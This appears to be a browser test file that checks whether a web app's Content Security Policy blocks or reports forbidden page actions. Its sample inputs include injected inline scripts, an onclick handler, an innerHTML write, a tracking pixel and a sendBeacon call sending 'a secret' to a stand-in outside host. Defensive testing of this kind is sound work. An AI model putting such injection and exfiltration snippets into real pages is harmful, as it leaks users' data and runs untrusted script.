"""What watches all other tests is watched once itself: a check that cannot fail is a defect."""

import re

import pytest
from playwright.sync_api import Error, expect

from tests.browser.bed import Person
from tests.browser.conftest import Visit
from tests.browser.eyes import MARKER, Eyes
from tests.until import until

INLINE = "document.body.append(Object.assign(document.createElement('script'), {text: '%s'}))"
PIXEL = "document.body.append(Object.assign(new Image(), {src: 'http://stranger.example/x'}))"
HANDLER = "document.body.setAttribute('onclick', '%s'); document.body.click()"
MARKUP = "document.body.innerHTML = '<b>markup</b>'"
SENT = "navigator.sendBeacon('http://stranger.example/told', 'a secret')"


@pytest.mark.parametrize(
    ("done", "seen"),
    [
        ("setTimeout(() => alert('owned'))", "dialog: owned"),
        ("setTimeout(() => { throw new Error('broken') })", "script error"),
        ("setTimeout(() => open('/tasks'))", "window opened"),
        (INLINE % MARKER.replace("'", "\\'"), "content security policy|TrustedScript"),
        (HANDLER % MARKER.replace("'", "\\'"), "content security policy|TrustedScript"),
        (MARKUP, "content security policy|TrustedHTML"),
        (PIXEL, "content security policy: img-src"),
        (SENT, "content security policy: connect-src"),
    ],
)
def test_what_no_page_may_do_is_refused_or_seen(
    visit: Visit, ada: Person, eyes: Eyes, done: str, seen: str
) -> None:
    """The issue: "CSP without inline script"; taken for markup, text would still not run."""
    page = visit(ada, "tasks")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    try:
        page.evaluate(f"() => {{ {done} }}")
    except Error as refused:
        eyes.seen.append(str(refused))

    def is_seen() -> bool:
        return page.evaluate("true") and any(re.search(seen, each) for each in eyes.seen)

    until(f"{seen} is seen", is_seen)
    page.context.close()  # of one thing that is done more may be told, but nothing after this
    assert "console: owned" not in eyes.seen
    eyes.seen.clear()
